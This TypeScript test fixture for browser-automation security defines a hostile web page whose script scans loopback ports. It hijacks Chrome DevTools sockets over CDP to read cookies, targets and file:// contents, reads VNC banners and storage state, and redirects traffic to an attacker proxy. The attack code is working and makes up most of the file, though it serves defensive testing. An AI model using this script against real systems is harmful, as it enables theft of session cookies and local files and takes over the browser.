/**
 * The hostile page: what any web page a customer's automation visits may run. Served at an https
 * origin by request interception (no network), it attacks with plain page JavaScript and reports
 * what it got back; the test reads the report and never helps it.
 *
 * `window.runAttack(plan)` tries, for every port of `plan.ports`, the phases the plan names:
 *   devtools       new WebSocket('ws://127.0.0.1:<port>/devtools/browser'); when it opens, the page
 *                  drives that browser over CDP (cookies, targets, file:// reads) — the red team's chain
 *   vnc            new WebSocket('ws://127.0.0.1:<port>/vnc'), first bytes (the RFB banner)
 *   storage        fetch('http://127.0.0.1:<port>/storage-state') and read it, if the browser lets it
 *   recordingStop  no-cors POST /recording/stop
 *   session        no-cors POST /session moving the browser's traffic onto the attacker's proxy
 * and `plan.fetches` (loopback services): each url fetched (cors, read if readable, or no-cors).
 * `plan.hold` keeps opened DevTools sockets with target discovery on (warm-pod attack);
 * `window.reportHeld()` reports what they saw since. `window.readPickedFile()` reads the file of the
 * page's <input type=file> with FileReader (the DOM.setFileInputFiles attack).
 *
 * The script is a string (not a function's source) so that no transpiler helper leaks into it.
 */

/** What the test asks the page to try. */
export interface AttackPlan {
  ports: number[];
  phases: ('devtools' | 'vnc' | 'storage' | 'recordingStop' | 'session')[];
  /** The attacker's proxy (POST /session). */
  proxyUrl?: string;
  /** Files the page tries to read through any DevTools socket it opens (file:// URLs). */
  lootFiles?: string[];
  /** Loopback services to fetch. */
  fetches?: { label: string; url: string; method?: string; body?: string; mode: 'cors' | 'no-cors' }[];
  /** Keep opened DevTools sockets open, with target discovery on. */
  hold?: boolean;
}

/** Per port and phase: whether a socket opened, what was read. */
export interface PortReport {
  port: number;
  phase: string;
  /** A WebSocket opened (devtools, vnc). */
  opened?: boolean;
  /** What the page read back: response text, RFB banner, or the loot of a CDP socket. */
  read?: string;
  /** The request was sent (no-cors: the page cannot see the answer). */
  sent?: boolean;
  error?: string;
}

export interface FetchReport {
  label: string;
  url: string;
  sent: boolean;
  read?: string;
  error?: string;
}

export interface AttackReport {
  ports: PortReport[];
  fetches: FetchReport[];
  /** file:// via the page's own fetch (not through any socket). */
  fileFetches: { url: string; read?: string; error?: string }[];
}

export interface HeldReport {
  port: number;
  /** Still open when asked. */
  openNow: boolean;
  /** URLs of targets the socket saw (discovery events and a final Target.getTargets). */
  urls: string[];
  /** Cookies read over it at report time (name=value). */
  cookies: string[];
}

export const HOSTILE_SCRIPT = String.raw`
(() => {
  const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
  const within = (promise, ms, fallback) => Promise.race([promise, sleep(ms).then(() => fallback)]);
  const text = (value) => (typeof value === 'string' ? value : JSON.stringify(value)).slice(0, 8000);

  function cdpOver(ws) {
    let next = 0;
    const pending = new Map();
    const events = [];
    ws.addEventListener('message', (m) => {
      let msg;
      try { msg = JSON.parse(m.data); } catch (e) { return; }
      if (msg.id !== undefined && pending.has(msg.id)) { pending.get(msg.id)(msg); pending.delete(msg.id); }
      else if (msg.method) events.push(msg);
    });
    const send = (method, params, sessionId) => within(new Promise((resolve) => {
      const id = ++next;
      pending.set(id, resolve);
      const body = { id: id, method: method, params: params || {} };
      if (sessionId) body.sessionId = sessionId;
      try { ws.send(JSON.stringify(body)); } catch (e) { resolve({ error: { message: String(e) } }); }
    }), 5000, { error: { message: 'timeout' } });
    return { send: send, events: events };
  }

  function openSocket(url, binary) {
    return new Promise((resolve) => {
      let ws;
      try { ws = new WebSocket(url); } catch (e) { resolve({ opened: false, error: String(e) }); return; }
      if (binary) ws.binaryType = 'arraybuffer';
      const timer = setTimeout(() => { try { ws.close(); } catch (e) {} resolve({ opened: false, error: 'timeout' }); }, 4000);
      ws.onopen = () => { clearTimeout(timer); resolve({ opened: true, ws: ws }); };
      ws.onerror = () => { clearTimeout(timer); resolve({ opened: false, error: 'refused or failed' }); };
    });
  }

  async function readThroughCdp(cdp, url) {
    const created = await cdp.send('Target.createTarget', { url: url });
    const targetId = created.result && created.result.targetId;
    if (!targetId) return 'createTarget failed: ' + text(created.error);
    const attached = await cdp.send('Target.attachToTarget', { targetId: targetId, flatten: true });
    const sessionId = attached.result && attached.result.sessionId;
    let read = 'attach failed';
    for (let i = 0; sessionId && i < 20; i++) {
      await sleep(200);
      const r = await cdp.send('Runtime.evaluate', { expression: "document.readyState === 'complete' ? (document.body ? document.body.innerText : '') : null", returnByValue: true }, sessionId);
      const value = r.result && r.result.result && r.result.result.value;
      if (typeof value === 'string') { read = value; break; }
    }
    await cdp.send('Target.closeTarget', { targetId: targetId });
    return read;
  }

  async function loot(ws, plan) {
    const cdp = cdpOver(ws);
    const cookies = await cdp.send('Storage.getCookies', {});
    const targets = await cdp.send('Target.getTargets', {});
    const files = {};
    for (const url of plan.lootFiles || []) files[url] = (await readThroughCdp(cdp, url)).slice(0, 4000);
    return text({
      cookies: ((cookies.result && cookies.result.cookies) || []).map((c) => c.name + '=' + c.value),
      targets: ((targets.result && targets.result.targetInfos) || []).map((t) => t.url),
      files: files,
    });
  }

  window.__held = [];

  async function devtools(port, plan) {
    const s = await openSocket('ws://127.0.0.1:' + port + '/devtools/browser', false);
    if (!s.opened) return { opened: false, error: s.error };
    if (plan.hold) {
      const cdp = cdpOver(s.ws);
      window.__held.push({ port: port, ws: s.ws, cdp: cdp });
      await cdp.send('Target.setDiscoverTargets', { discover: true });
      return { opened: true, read: 'held open' };
    }
    const read = await loot(s.ws, plan);
    s.ws.close();
    return { opened: true, read: read };
  }

  async function vnc(port) {
    const s = await openSocket('ws://127.0.0.1:' + port + '/vnc', true);
    if (!s.opened) return { opened: false, error: s.error };
    const first = await within(new Promise((resolve) => { s.ws.onmessage = (m) => resolve(new TextDecoder().decode(m.data)); }), 1500, '');
    s.ws.close();
    return { opened: true, read: first };
  }

  async function request(url, init) {
    const controller = new AbortController();
    const timer = setTimeout(() => controller.abort(), 5000);
    try {
      const res = await fetch(url, Object.assign({ signal: controller.signal }, init));
      if (res.type === 'opaque') return { sent: true };
      return { sent: true, read: text('HTTP ' + res.status + '\n' + (await res.text())) };
    } catch (e) {
      return { sent: false, error: String(e) };
    } finally {
      clearTimeout(timer);
    }
  }

  const PHASES = {
    devtools: devtools,
    vnc: vnc,
    storage: (port) => request('http://127.0.0.1:' + port + '/storage-state', { mode: 'cors' }),
    recordingStop: (port) => request('http://127.0.0.1:' + port + '/recording/stop', { method: 'POST', mode: 'no-cors' }),
    session: (port, plan) => request('http://127.0.0.1:' + port + '/session', {
      method: 'POST', mode: 'no-cors', body: JSON.stringify({ proxy: { url: plan.proxyUrl } }),
    }),
  };

  async function pool(items, width, fn) {
    const queue = items.slice();
    const out = [];
    await Promise.all(Array.from({ length: width }, async () => {
      while (queue.length > 0) out.push(await fn(queue.shift()));
    }));
    return out;
  }

  window.runAttack = async (plan) => {
    const report = { ports: [], fetches: [], fileFetches: [] };
    // One phase at a time over every port: a hijacked proxy (phase session) must come last.
    for (const phase of plan.phases) {
      const rows = await pool(plan.ports, 6, async (port) => {
        try { return Object.assign({ port: port, phase: phase }, await PHASES[phase](port, plan)); }
        catch (e) { return { port: port, phase: phase, error: String(e) }; }
      });
      report.ports.push.apply(report.ports, rows);
    }
    for (const f of plan.fetches || []) {
      const init = { method: f.method || 'GET', mode: f.mode };
      if (f.body !== undefined) init.body = f.body;
      report.fetches.push(Object.assign({ label: f.label, url: f.url }, await request(f.url, init)));
    }
    for (const url of plan.lootFiles || []) {
      const r = await request(url, { mode: 'cors' });
      report.fileFetches.push({ url: url, read: r.read, error: r.error });
    }
    return report;
  };

  window.reportHeld = async () => {
    const out = [];
    for (const h of window.__held) {
      const openNow = h.ws.readyState === WebSocket.OPEN;
      const urls = [];
      for (const e of h.cdp.events) {
        const info = e.params && e.params.targetInfo;
        if (info && info.url) urls.push(info.url);
      }
      let cookies = [];
      if (openNow) {
        const t = await h.cdp.send('Target.getTargets', {});
        for (const info of (t.result && t.result.targetInfos) || []) urls.push(info.url);
        const c = await h.cdp.send('Storage.getCookies', {});
        cookies = ((c.result && c.result.cookies) || []).map((x) => x.name + '=' + x.value);
      }
      out.push({ port: h.port, openNow: openNow, urls: urls, cookies: cookies });
    }
    return out;
  };

  window.readPickedFile = () => new Promise((resolve) => {
    const input = document.getElementById('pick');
    const file = input && input.files && input.files[0];
    if (!file) { resolve({ error: 'no file' }); return; }
    const reader = new FileReader();
    reader.onload = () => {
      const bytes = new Uint8Array(reader.result).subarray(0, 65536);
      let binary = '';
      for (let i = 0; i < bytes.length; i++) binary += String.fromCharCode(bytes[i]);
      resolve({ name: file.name, size: file.size, base64: btoa(binary) });
    };
    reader.onerror = () => resolve({ name: file.name, size: file.size, error: String(reader.error) });
    reader.readAsArrayBuffer(file);
  });
})();
`;

/** The hostile page's HTML: the script and a file input. */
export const HOSTILE_HTML = `<!doctype html><html><head><title>attacker</title></head><body>
<h1>nothing to see</h1><input type="file" id="pick"><script>${HOSTILE_SCRIPT}</script></body></html>`;

/** The hostile site for an interception handler: `/` is the page, `/download` an attachment. */
export function hostileSite(download?: { name: string; body: string }) {
  return (path: string) => {
    if (path === '/' || path.startsWith('/?')) return { body: HOSTILE_HTML };
    if (download && path === '/download')
      return {
        headers: {
          'content-type': 'application/octet-stream',
          'content-disposition': `attachment; filename="${download.name}"`,
        },
        body: download.body,
      };
    return undefined;
  };
}
